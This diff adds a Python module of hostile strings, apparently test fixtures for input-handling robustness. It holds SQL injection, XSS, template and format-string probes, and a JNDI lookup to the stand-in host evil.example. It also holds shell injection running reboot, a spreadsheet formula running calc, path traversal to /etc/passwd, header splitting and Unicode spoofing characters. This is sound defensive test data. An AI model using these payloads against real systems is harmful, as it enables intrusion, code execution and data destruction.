@@ -1,0 +1,68 @@
+"""Texts that break what builds commands, pages, headers or lines out of texts, or that people misread."""
+
+from __future__ import annotations
+
+#: By what they are for. All can be sent as JSON, as UTF-8 and in a percent-encoded address.
+HOSTILE: dict[str, str] = {
+    "ends a statement": "'; drop table records; --",
+    "is always true": "' or '1'='1",
+    "a comment": "*/ delete from states; /*",
+    "a backslash and a quote": "\\'; delete from states; --",
+    "a dollar quote": "$$; drop table records; $$",
+    "a placeholder": "$1",
+    "wild cards": "%_%",
+    "a copy's end": "\\.",
+    "an array": '{"a",NULL}',
+    "a script": "<script>alert(1)</script>",
+    "an attribute": '" onmouseover="alert(1)',
+    "an image": "<img src=x onerror=alert(1)>",
+    "an entity": "&lt;script&gt;&#x27;&quot;",
+    "a document's end": "]]></x><!--",
+    "a template": "{{7*7}}",
+    "a server page": "<%= 7*7 %>",
+    "a look-up": "${jndi:ldap://evil.example/a}",
+    "a format": "{0.__class__.__mro__}",
+    "another format": "%s%n%(x)s",
+    "a shell": "$(reboot)`reboot`|reboot",
+    "a formula": "=cmd|' /C calc'!A0",
+    "a way up": "../../../../etc/passwd",
+    "a way up, encoded": "%2e%2e%2fetc%2fpasswd",
+    "a device": "C:\\con\\nul",
+    "an address": "javascript:alert(1)//http://evil.example",
+    "a header": "a\r\nSet-Cookie: session=1",
+    "an answer": "a\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
+    "a log line": "a\n2026-01-01 info all is well",
+    "a terminal's colours": "\x1b[31mred\x1b[0m",
+    "other line ends": "a\u2028b\u2029c\u0085d",
+    "a Cyrillic a": "\u0430nna",
+    "wide letters": "\uff41\uff4e\uff4e\uff41",
+    "a letter and its mark": "a\u030anna",
+    "letters that grow": "\u0130\ufb03\u1e9e",
+    "from right to left": "anna\u202egpj.exe",
+    "an isolate without end": "anna\u2067",
+    "a mark of direction": "anna\u200f",
+    "nothing to see": "an\u200bna",
+    "a joiner": "an\u200dna",
+    "a hyphen that hides": "an\u00adna",
+    "a byte order mark": "\ufeffanna",
+    "a filler": "anna\u3164",
+    "a variation": "anna\ufe0f",
+    "a tag": "anna\U000e0041",
+    "marks without end": "a" + "\u0335\u0363\u20dd" * 80,
+    "a family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
+    "no character": "a\ufffe\U0010ffff",
+    "of nobody's": "\ue000\U000f0000",
+    "nothing": "(null)",
+    "no number": "-NaN",
+    "a large number": "9" * 400,
+    "blanks": " \t ",
+    "long": "x" * 20_000,
+}
+#: Those that no text of the interface may hold: JSON can write them, PostgreSQL cannot keep them.
+NO_TEXT: dict[str, str] = {
+    "a NUL": "a\0b",
+    "half a pair": "a\ud800",
+    "a pair the wrong way round": "\udc00\ud800",
+}
+#: As much as a body may have, and more.
+MEBIBYTE = "x" * (1 << 20)
